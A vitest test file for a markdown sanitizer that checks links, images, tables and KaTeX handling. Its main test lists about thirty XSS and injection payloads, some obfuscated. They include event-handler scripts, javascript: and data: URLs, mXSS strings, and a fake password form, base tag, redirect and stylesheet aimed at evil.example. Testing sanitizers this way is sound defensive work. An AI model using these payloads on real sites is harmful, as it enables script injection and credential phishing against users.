// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { markdown } from './marked';
import { sanitize } from './sanitize';

const html = (source: string) => sanitize(markdown.parse(source, { async: false }));

describe('sanitize', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '![x](javascript:alert(1))',
    '[x]: javascript:alert(1)\n\n[x]',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<input type=image src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<p style="position:fixed;inset:0">x</p>',
    '<p class="fixed inset-0">x</p>',
    '<p id="composer">x</p>',
    '<style>body{display:none}</style>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<video src=x onerror=alert(1)></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '```js"><img src=x onerror=alert(1)>\nx\n```',
    '$\\href{javascript:alert(1)}{x}"><img src=x onerror=alert(1)>$',
    '<p data-tex="x" data-evil="y" onclick="alert(1)">x</p>',
  ])('leaves nothing that runs, restyles or imitates: %s', (source) => {
    const holder = document.createElement('div');
    holder.innerHTML = html(source);
    for (const element of holder.querySelectorAll('*')) {
      expect(element.matches('script,iframe,object,embed,form,button,style,link,meta,base,svg,math,video')).toBe(false);
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^class$|^id$|^data-evil$/);
        if (name === 'href' || name === 'src')
          expect(value.replace(/\s/g, '')).toMatch(/^(https?:|mailto:|tel:|\/(?!\/)|#|data:image)/i);
      }
    }
  });

  it('opens links in a new tab without telling where from', () => {
    expect(html('[x](https://example.org)')).toContain(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  it('turns a picture from elsewhere into a link and keeps our own', () => {
    expect(html('![cat](https://example.org/cat.png?secret=1)')).not.toContain('<img');
    expect(html('![cat](https://example.org/cat.png)')).toContain('>cat</a>');
    expect(html('<img src="https://example.org/cat.png">')).not.toContain('<img');
    expect(html('![cat](/api/v1/files/1/content)')).toContain('<img');
  });

  it('keeps tables, task lists, details and keys', () => {
    expect(html('| a | b |\n|:-:|--:|\n| 1 | 2 |')).toContain('<td align="center">1</td>');
    expect(html('- [x] done')).toMatch(/<input[^>]*type="checkbox"/);
    expect(html('<details><summary>More</summary>text</details>')).toContain('<summary>More</summary>');
    expect(html('Press <kbd>Esc</kbd>')).toContain('<kbd>Esc</kbd>');
  });

  it('marks formulas for KaTeX and leaves dollar amounts alone', () => {
    expect(html('Euler: $e^{i\\pi} = -1$.')).toContain('data-tex="e^{i\\pi} = -1"');
    expect(html('\\(a < b\\)')).toContain('data-tex="a &lt; b"');
    expect(html('so:\n\\[\nx^2\n\\]\nthen')).toMatch(/<div [^>]*data-tex="x\^2"/);
    expect(html('$$\n\\begin{aligned}\na &= b\n\\end{aligned}\n$$')).toContain('data-display="true"');
    expect(html('It costs $5 and then $6.')).not.toContain('data-tex');
    expect(html('`$x$`')).not.toContain('data-tex');
  });
});
